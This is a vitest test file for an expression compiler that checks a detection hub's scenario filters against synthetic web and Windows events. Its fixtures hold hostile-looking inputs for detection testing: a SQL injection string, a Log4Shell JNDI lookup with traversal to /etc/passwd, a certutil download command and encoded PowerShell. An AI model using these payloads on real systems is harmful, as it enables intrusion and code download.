import { describe, expect, it } from 'vitest'
import {
  bucketEnvironment,
  CompileCache,
  compileExpr,
  compileExprSet,
  contextEnvironment,
  createHelpers,
  eventEnvironment,
  GoTime,
  recordType,
  zeroTime,
} from '../src/index.ts'
import type { Environment, EventRecord } from '../src/index.ts'
import { hasHub, hubDataLines, hubExpressions, type HubPlace } from './hub-expressions.ts'

const environments: Readonly<Record<HubPlace, Environment>> = {
  event: eventEnvironment,
  bucket: bucketEnvironment,
  context: contextEnvironment,
}
const helpers = createHelpers({
  now: () => new GoTime(0),
  files: {
    lines: hubDataLines,
    regexps: hubDataLines,
    map: (name) => hubDataLines(name)?.map((line) => JSON.parse(line) as Record<string, string>),
  },
})

function event(
  meta: Readonly<Record<string, string>>,
  parsed: Readonly<Record<string, string>>,
): EventRecord {
  return {
    Type: recordType.log,
    ExpectMode: 0,
    Whitelisted: false,
    WhitelistReason: '',
    Stage: '',
    Line: {
      Raw: '',
      Src: '',
      Time: zeroTime,
      Labels: new Map([['type', 'nginx']]),
      Process: true,
      Module: 'file',
    },
    Parsed: new Map(Object.entries(parsed)),
    Enriched: new Map(),
    Unmarshaled: new Map(),
    Overflow: undefined,
    Time: zeroTime,
    StrTime: '',
    StrTimeFormat: '',
    MarshaledTime: '',
    Process: true,
    Appsec: undefined,
    Meta: new Map(Object.entries(meta)),
  }
}

const web = (path: string, agent = 'Mozilla/5.0'): EventRecord =>
  event(
    {
      log_type: 'http_access-log',
      service: 'http',
      http_path: path,
      http_status: '404',
      http_verb: 'GET',
      source_ip: '192.0.2.1',
    },
    {
      program: 'nginx',
      request: path,
      http_user_agent: agent,
      http_args: path.split('?')[1] ?? '',
      static_ressource: 'false',
      file_name: path.split('/').at(-1) ?? '',
    },
  )
const windows = (commandLine: string, image: string): EventRecord =>
  event(
    { service: 'sysmon' },
    {
      EventID: '1',
      CommandLine: commandLine,
      Image: image,
      OriginalFileName: '',
      ParentImage: 'C:\\Windows\\explorer.exe',
    },
  )

const events: readonly (() => EventRecord)[] = [
  () => web('/'),
  () => web('/wp-login.php'),
  () => web('/global-protect/login.esp'),
  () => web('/index.php?id=1%27%20UNION%20SELECT', 'sqlmap/1.0'),
  () => web('/${jndi:ldap://x}/..%2f..%2f/etc/passwd'),
  () => web('/ampps-admin/index.php'),
  () => windows('certutil.exe -urlcache -f http://1.2.3.4/x', 'C:\\Windows\\System32\\certutil.exe'),
  () =>
    windows(
      'powershell -e SQBuAHYAbwBrAGUALQ ＣＡＦÉ',
      'C:\\Windows\\System32\\WindowsPowerShell\\powershell.exe',
    ),
  () => event({ log_type: 'ssh_failed-auth', service: 'ssh', source_ip: '192.0.2.7' }, { program: 'sshd' }),
  () => event({}, {}),
]

// Thousands of expressions: on a busy machine that takes its time.
describe.skipIf(!hasHub)('expressions of the hub (needs the shared hub)', { timeout: 120_000 }, () => {
  const all = hubExpressions()
  const filters = all.filter(({ isFilter }) => isFilter).map(({ source }) => source)

  it('are over 1,600 in their places', () => {
    expect(new Set(all.map(({ source }) => source)).size).toBeGreaterThan(1_600)
    expect(filters.length).toBeGreaterThan(700)
  })

  it.each(['generate', 'closures'] as const)('each compile, by %s', (backend) => {
    const cache = new CompileCache()
    const failed = all.flatMap(({ source, place }) => {
      try {
        compileExpr(source, environments[place], { helpers, cache, backend })
        return []
      } catch (error) {
        return [`${String(error)}: ${source.slice(0, 100)}`]
      }
    })
    expect(failed).toEqual([])
  })

  const made = hasHub ? compileExprSet(filters, eventEnvironment, { helpers }) : undefined

  it('select the same scenarios as a set, with and without made code, as each does alone', () => {
    const cache = new CompileCache()
    const alone = filters.map((source) =>
      compileExpr(source, eventEnvironment, { helpers, cache, backend: 'closures' }),
    )
    const sets = [
      ...(made === undefined ? [] : [made]),
      compileExprSet(filters, eventEnvironment, { helpers, backend: 'closures' }),
    ]
    for (const make of events) {
      const scope = [make()]
      const expected = alone.flatMap((expression, index) => {
        try {
          return expression.test(scope) ? [index] : []
        } catch {
          return []
        }
      })
      for (const set of sets) {
        const own = [make()]
        const found: number[] = []
        set.begin()
        set.select(own, (index) => found.push(index))
        expect(found).toEqual(expected)
        expect(own[0]?.Meta).toEqual(scope[0]?.Meta)
      }
    }
  })

  it('find what they are made for', () => {
    const found = (record: EventRecord): string => {
      const texts: string[] = []
      made?.begin()
      made?.select([record], (index) => texts.push(filters[index] ?? ''))
      return texts.join('\n')
    }
    expect(found(web('/', 'Nikto/2.1'))).toContain('bad_user_agents')
    expect(found(web('/x', 'Mozilla/5.0 (X11; Linux x86_64; rv:140.0)'))).not.toContain('bad_user_agents')
    const record = web('/ampps-admin/index.php')
    expect(found(record)).toContain('technology_probing')
    expect(record.Meta.get('target_technology')).toBe('ampps-admin-login-panel-probing')
  })
})
